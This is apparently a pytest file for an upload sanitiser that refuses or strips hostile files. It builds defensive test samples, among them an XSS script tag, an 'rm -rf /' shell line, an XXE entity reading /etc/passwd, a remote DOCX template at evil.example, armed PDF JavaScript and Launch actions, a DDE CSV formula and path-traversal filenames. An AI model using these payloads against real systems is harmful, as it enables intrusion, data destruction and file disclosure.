"""Which files are taken, and what is left of those that are: each hostile file is made here."""

import io
import unicodedata

import pikepdf
import pytest
from PIL import Image

from core.documents.sanitise import Unfit
from core.documents.taken_out import in_words
from core.documents.uploads import neutral_name, prepare
from tests import files

HTML = b"<!DOCTYPE html><script>alert(1)</script>"


def taken(name, data):
    return prepare(name, io.BytesIO(data), len(data))


def refused(name, data):
    with pytest.raises(Unfit) as found:
        taken(name, data)
    return str(found.value)


def by_name(value: object) -> str:
    """A case by the name of its file: made-up files hold the time and chance, and each worker makes its own."""
    return value if isinstance(value, str) else "data"


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("plan.pdf", files.pdf(), "application/pdf"),
        ("map.png", files.png(), "image/png"),
        ("photo.JPEG", files.jpeg(), "image/jpeg"),
        ("photo.jpg", files.jpeg(), "image/jpeg"),
        ("seizures.xlsx", files.xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("plan.docx", files.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("seizures.csv", b"year,ivory\n2024,5\n", "text/csv"),
        ("note.txt", "Ghi chú về ngà voi\n".encode(), "text/plain"),
    ],
    ids=by_name,
)
def test_the_kinds_on_the_list_are_taken(name, data, media_type):
    assert taken(name, data).media_type == media_type


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("page.html", HTML),
        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("plan.pdf", HTML),
        ("picture.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("note.txt", HTML),
        ("note.txt", b"\n\n  <svg onload=alert(1)>"),
        ("table.csv", b"a,b\n" + HTML),
        ("note.txt", b"#!/bin/sh\nrm -rf /\n"),
        ("note.txt", b"\x00\x01\x02"),
        ("note.txt", files.png()),
        ("note.txt", "Ngà".encode("utf-16")),
        ("photo.jpg", files.png()),
        ("plan.docx", files.xlsx()),
        ("plan.docx", files.pdf()),
        ("plan.xlsx", files.docx()),
        ("plan.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("plan.exe", b"MZ"),
        ("plan.pdf.exe", files.pdf()),
        ("plan", files.pdf()),
        ("plan.pdf", b""),
        ("plan.pdf", b"%PDF-1.7\nnothing more"),
        ("plan.pdf", HTML + files.pdf()),
        ("picture.png", files.png()[:40]),
        ("picture.png", files.bomb_png()),
        ("plan.docx", files.docx()[:60]),
        ("plan.docx", files.docx(**{"word/vbaProject.bin": "x"})),
        ("plan.docx", files.docx(**{"word/embeddings/oleObject1.bin": "x"})),
        ("plan.docx", files.docx(**{"word/a.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})),
        ("plan.docx", files.docx(**{"word/a.xml": "<!ENTITY".encode("utf-16-le")})),
        ("plan.docx", files.docx(**{"word/media/big.bin": b"\x00" * 130_000_000})),
        ("plan.docx", files.docx(**{"../../evil.xml": "<x/>"})),
        ("plan.docx", files.docx(**{f"word/{n}.txt": "" for n in range(2_100)})),
        (
            "plan.docx",
            files.docx(
                **{
                    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="a" TargetMode="External" '
                    'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
                }
            ),
        ),
        ("plan.xlsx", files.parcel(**{"[Content_Types].xml": "macroEnabled", "xl/workbook.xml": "<x/>"})),
    ],
    ids=by_name,
)
def test_what_is_not_on_the_list_or_not_what_it_says_is_refused_in_words(name, data):
    assert refused(name, data).endswith(".")


def test_a_link_in_a_text_is_no_reason_to_refuse_it():
    link = '<Relationships><Relationship TargetMode="External" Type="http://x/hyperlink" Target="https://cites.org"/></Relationships>'

    assert taken("plan.docx", files.docx(**{"word/_rels/document.xml.rels": link}))


def test_a_file_over_the_limit_is_refused_whatever_size_it_claims(settings):
    settings.DOCUMENT_MAX_BYTES = 1_000

    assert "larger" in refused("note.txt", b"a" * 1_001)
    with pytest.raises(Unfit, match="larger"):
        prepare("note.txt", io.BytesIO(b"a" * 5_000), 10)


def test_a_picture_that_is_a_page_as_well_is_only_a_picture_afterwards():
    kept = taken("map.png", files.png() + HTML).content

    assert b"script" not in kept
    assert Image.open(io.BytesIO(kept)).size == (8, 8)


def test_a_picture_loses_what_the_camera_wrote():
    exif = Image.Exif()
    exif[0x010E] = "secret-place"

    assert b"secret-place" not in taken("photo.jpg", files.jpeg(exif=exif)).content


def armed(made):
    """Everything in a PDF that runs or carries something along."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('payload')", Type=pikepdf.Name.Action)
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="payload.exe")
    made.Root.OpenAction = made.make_indirect(script)
    made.Root.AA = pikepdf.Dictionary(WC=script)
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", script])),
    )
    made.attachments["payload.exe"] = b"MZ payload"
    page = made.pages[0]
    page.AA = pikepdf.Dictionary(O=launch)
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 1, 1],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://cites.org", Next=pikepdf.Array([script])),
    )
    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 1, 1], T="payload")
    page.Annots = pikepdf.Array([made.make_indirect(link), made.make_indirect(clip)])
    made.Root.AcroForm = pikepdf.Dictionary(XFA="payload", Fields=pikepdf.Array([]))


def test_a_pdf_loses_everything_that_runs_and_keeps_its_pages_and_links():
    kept = taken("plan.pdf", files.pdf(armed)).content

    with pikepdf.open(io.BytesIO(kept)) as read:
        whole = b"".join(repr(item).encode() for item in read.objects)
        assert len(read.pages) == 1
        assert not read.attachments
    for word in (b"payload", b"JavaScript", b"Launch", b"RichMedia", b"OpenAction", b"/AA", b"XFA"):
        assert word not in whole
        assert word not in kept
    assert b"cites.org" in whole


ODD_LINKS = [
    "javascript:app.alert(1)",
    "JaVaScRiPt:x",
    " javascript:x",
    "java\tscript:x",
    "file:///etc/passwd",
    "File:x",
]
ODD_LINKS += [
    "data:text/html,x",
    "vbscript:x",
    "\\\\evil\\share",
    "//evil.example.org",
    "ms-msdt:/id",
    "smb://evil/x",
    "",
]


def linking(action):
    """A change that puts a link with this action on the first page."""

    def change(made):
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 1, 1], A=action)
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])

    return change


def actions_of(kept):
    """What the annotations of the first page do."""
    with pikepdf.open(io.BytesIO(kept)) as read:
        return [dict(one.get("/A", {})) for one in read.pages[0].get("/Annots", [])]


@pytest.mark.parametrize("target", ODD_LINKS, ids=repr)
@pytest.mark.parametrize("kind", [{}, {"Type": pikepdf.Name.Action}, {"Type": pikepdf.Name.Other}])
def test_a_link_of_a_pdf_that_leads_to_odd_places_does_nothing(target, kind):
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=target, **kind)

    assert actions_of(taken("plan.pdf", files.pdf(linking(action))).content) == [{}]


@pytest.mark.parametrize(
    "target",
    [
        "https://cites.org/eng?a=b#c",
        "http://www.asean.org",
        "mailto:a@example.org",
        "https://cites.org/a b",
        "https://ví.example/x",
    ],
)
def test_a_link_of_a_pdf_to_a_page_or_a_mailbox_stays(target):
    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=target)
    kept = actions_of(taken("plan.pdf", files.pdf(linking(action))).content)

    assert str(kept[0]["/URI"]) == target


@pytest.mark.parametrize(
    "action",
    [
        {"S": pikepdf.Name.GoToR, "F": "other.pdf", "D": pikepdf.Array([0])},
        {"S": pikepdf.Name.GoToE, "F": "other.pdf"},
        {"S": pikepdf.Name.Launch, "F": "calc.exe"},
        {"S": pikepdf.Name.SubmitForm, "F": "https://evil.example.org"},
        {"S": pikepdf.Name.ImportData, "F": "x"},
        {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"},
        {"S": pikepdf.Name.Named, "N": pikepdf.Name.Print},
        {"S": pikepdf.Name.ResetForm},
        {"S": pikepdf.Name.NobodyKnows, "F": "calc.exe"},
        # An action that says that it is something else: readers ask for its kind alone.
        {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)", "Type": pikepdf.Name.Page},
        {"S": pikepdf.Name.URI, "URI": pikepdf.Array(["https://cites.org"])},
    ],
    ids=lambda action: str(action["S"]),
)
def test_an_action_of_a_pdf_that_runs_or_fetches_does_nothing(action):
    kept = taken("plan.pdf", files.pdf(linking(pikepdf.Dictionary(**action)))).content

    assert actions_of(kept) == [{}]
    for word in (b"other.pdf", b"calc.exe", b"evil.example", b"app.alert"):
        assert word not in kept


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (None, set()),
        (lambda made: made.Root.__setattr__("OpenAction", pikepdf.Array([made.pages[0].obj, "/Fit"])), set()),
        (linking(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://cites.org")), set()),
        (linking(pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage)), set()),
        (linking(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:x")), {"links"}),
        (linking(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")), {"actions"}),
        (lambda made: made.docinfo.__setitem__("/Author", "payload"), {"hidden"}),
        (lambda made: made.pages[0].__setattr__("PieceInfo", pikepdf.Dictionary(a="payload")), {"hidden"}),
        (armed, {"scripts", "files", "media", "form"}),
    ],
    ids=["plain", "opens at a page", "link", "turns a page", "odd link", "launch", "author", "traces", "armed"],
)
def test_what_was_taken_out_of_a_pdf_is_said(change, told):
    kept = taken("plan.pdf", files.pdf(change))

    assert kept.taken_out == told
    assert b"payload" not in kept.content


def test_what_was_taken_out_of_others_is_said():
    exif = Image.Exif()
    exif[0x010E] = "secret-place"

    assert taken("photo.jpg", files.jpeg(exif=exif)).taken_out == {"hidden"}
    assert taken("photo.jpg", files.jpeg()).taken_out == set()
    assert taken("a.csv", b"a,b\n=1+1,2\n").taken_out == {"formulas"}
    assert taken("a.csv", b"a,b\n-5,2\n").taken_out == set()
    assert in_words(["files", "scripts", "of another release"]) == "scripts and what starts by itself; attached files"


def test_a_cell_is_text_for_programs_that_separate_by_another_sign_too():
    """Where a comma is the sign of decimals, Excel parts a file at its semicolons."""
    kept = taken("a.csv", b'a,b\n"1;=1+1",2\n"list\n- one",-5\n"x\n=1+1",3\n').content.decode()

    assert kept == 'a,b\r\n1;\'=1+1,2\r\n"list\n- one",-5\r\n"x\n\'=1+1",3\r\n'


def test_a_pdf_takes_nothing_from_elsewhere():
    def fetch(made):
        made.Root.URI = pikepdf.Dictionary(Base="javascript:alert(1)//")
        stream = made.make_stream(b"payload")
        stream["/F"] = "https://evil.example.org/x"
        made.Root.Other = stream
        made.pages[0].Reference = pikepdf.Dictionary(Ref=pikepdf.Dictionary(F="https://evil.example.org/y"))

    kept = taken("plan.pdf", files.pdf(fetch)).content

    with pikepdf.open(io.BytesIO(kept)) as read:
        whole = b"".join(repr(item).encode() for item in read.objects)
    assert b"evil.example" not in whole
    assert b"javascript" not in whole


@pytest.mark.parametrize("owner_only", [True, False])
def test_a_protected_pdf_is_refused(owner_only):
    lock = pikepdf.Encryption(owner="o", user="" if owner_only else "u")

    assert "password" in refused("plan.pdf", files.pdf(encryption=lock))


def test_a_pdf_whose_pages_go_round_in_circles_does_not_hang():
    def circle(made):
        first = made.make_indirect(pikepdf.Dictionary())
        second = made.make_indirect(pikepdf.Dictionary(Other=first))
        first.Other = second
        made.Root.Circle = first

    assert taken("plan.pdf", files.pdf(circle))


def test_cells_that_would_run_in_a_spreadsheet_are_marked_as_text():
    kept = taken("t.csv", b"name;value\n=cmd|' /C calc'!A0;-5\n@SUM(A1);+3.5\n").content.decode()

    assert "'=cmd" in kept
    assert "'@SUM" in kept
    assert ";-5" in kept
    assert ";+3.5" in kept


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("plan.pdf", "plan.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\ana\\plan.PDF", "plan.pdf"),
        ("a\u202efdp.png", "a fdp.png"),
        ("a\x00b\nc.txt", "a b c.txt"),
        ("  .htaccess.txt", "htaccess.txt"),
        ('x"; filename="evil.exe.pdf', "x filename= evil.exe.pdf"),
        (unicodedata.normalize("NFD", "Kế hoạch.pdf"), "Kế hoạch.pdf"),
        ("ແຜນການ.pdf", "ແຜນການ.pdf"),
        (".pdf", "document.pdf"),
        ("x" * 400 + ".pdf", "x" * 120 + ".pdf"),
    ],
)
def test_names_are_neutral(typed, kept):
    assert neutral_name(typed) == kept
